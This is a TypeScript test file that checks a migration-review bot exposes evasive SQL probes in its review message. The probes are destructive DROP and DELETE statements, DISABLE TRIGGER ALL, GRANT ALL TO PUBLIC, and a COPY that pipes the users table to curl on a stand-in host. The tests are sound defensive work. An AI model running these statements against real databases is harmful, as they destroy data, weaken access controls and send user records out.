import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PgliteDryRunner } from '../../src/dryrun/pglite-dry-run.ts';
import { LiveDryRuns } from '../../src/history/dry-run-table.ts';
import { BotHarness, blockText, REQUESTER } from '../support/bot-harness.ts';
import { createMigratedDatabase, type TestDatabase } from '../support/database.ts';
import { copyHistory, HISTORY } from '../support/migration-folders.ts';

// The evasions of issue 15 through the bot's own path: the target (real PostgreSQL) has
// applied the shipped history, the probe is the one pending migration, and what matters is
// what the review message posted in the channel shows the approvers, and whether the requester
// had to type the environment's name.
const PROBES: { name: string; sql: string; shows: string; category: RegExp; dryRun?: RegExp }[] = [
  {
    name: 'a statement after the breakpoint marker on the same line',
    sql: 'SELECT 1; --> statement-breakpoint DROP TABLE "users" CASCADE;',
    shows: 'DROP TABLE "users" CASCADE',
    category: /destructive/,
  },
  {
    name: 'a drop after a create that was a no-op on the existing table',
    sql: 'CREATE TABLE IF NOT EXISTS "users" ("id" serial PRIMARY KEY);\n--> statement-breakpoint\nDROP TABLE "users" CASCADE;',
    shows: 'DROP TABLE "users" CASCADE',
    category: /destructive/,
  },
  {
    name: 'a statement kind the reviewer does not judge',
    sql: 'ALTER TABLE "users" DISABLE TRIGGER ALL;',
    shows: 'DISABLE TRIGGER ALL',
    category: /unreviewable/,
  },
  {
    name: 'a delete inside a function the run creates, then calls',
    sql: 'CREATE FUNCTION wipe() RETURNS void LANGUAGE sql AS $$ DELETE FROM "users" $$;\n--> statement-breakpoint\nSELECT wipe();',
    shows: 'wipe',
    category: /destructive/,
  },
  {
    // PGlite answers this COPY and then hangs on the next query: the dry run must not run it.
    name: 'a copy of a table to a server program',
    sql: `COPY "users" TO PROGRAM 'curl -d @- https://example.invalid';`,
    shows: 'TO PROGRAM',
    category: /unreviewable/,
    dryRun: /COPY … TO PROGRAM/,
  },
  {
    name: 'a privilege change',
    sql: 'GRANT ALL ON "users" TO PUBLIC;',
    shows: 'GRANT ALL',
    category: /security/,
  },
];

describe('the review message shows what an evasion hides', () => {
  let db: TestDatabase;
  const runner = new PgliteDryRunner();
  beforeAll(async () => {
    db = await createMigratedDatabase(HISTORY);
  }, 60_000);
  afterAll(async () => {
    await db?.drop();
    await runner.close();
  });

  for (const probe of PROBES) {
    it(`${probe.name}: shown, judged, and typed-confirmed`, async () => {
      const folder = copyHistory();
      const last = folder.journal.entries.at(-1);
      if (!last) throw new Error('empty journal');
      const tag = `${String(last.idx + 1).padStart(4, '0')}_probe`;
      folder.journal.entries.push({ ...last, idx: last.idx + 1, tag, when: last.when + 1000 });
      folder.writeJournal();
      writeFileSync(join(folder.dir, `${tag}.sql`), probe.sql);
      const bot = new BotHarness();
      await bot.start(undefined, { dryRuns: new LiveDryRuns(runner), migrationsFolder: folder.dir });
      bot.aws.secrets.set('daadaar/prod/database-read-url', JSON.stringify({ DATABASE_URL: db.url }));
      try {
        await bot.command('migrate prod');
        const modal = JSON.stringify(bot.currentModal());
        expect(modal).toContain(`*1 pending*: \`${tag}\``);
        // Never silently safe: the requester must type the environment's name.
        const refused = await bot.submitModal(REQUESTER, { reason: 'probe' });
        expect((await refused.json()).errors.confirm).toBe('Type prod exactly to confirm.');
        await bot.submitModal(REQUESTER, { reason: 'probe', confirm: 'prod' });
        const review = blockText(bot.reviewMessage());
        expect(review).toContain(tag);
        // The blocks as JSON: quotes in SQL come escaped.
        expect(review).toContain(JSON.stringify(probe.shows).slice(1, -1));
        expect(review).toMatch(probe.category);
        expect(review).not.toMatch(/no findings|Every statement parsed and no rule fired/);
        if (probe.dryRun) expect(review).toMatch(probe.dryRun);
      } finally {
        await bot.stop();
      }
    }, 90_000);
  }
});
